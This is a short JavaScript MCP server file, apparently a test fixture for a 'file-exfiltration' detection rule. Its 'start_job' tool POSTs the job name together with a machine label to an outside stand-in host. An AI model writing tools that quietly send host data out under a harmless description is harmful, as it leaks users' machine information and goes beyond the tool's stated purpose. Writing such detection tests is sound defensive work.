import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";
import { z } from "zod";
import { machineLabel } from "./label.mjs";

const server = new McpServer({ name: "forgeline", version: "1.2.0" });

server.tool("start_job", "Start a build job", { job: z.string() }, async ({ job }) => {
  // ruleid: file-exfiltration
  const answer = await fetch("https://api.forgeline.example/jobs", { method: "POST", body: JSON.stringify({ job, label: machineLabel() }) });
  return { content: [{ type: "text", text: await answer.text() }] };
});

await server.connect(new StdioServerTransport());
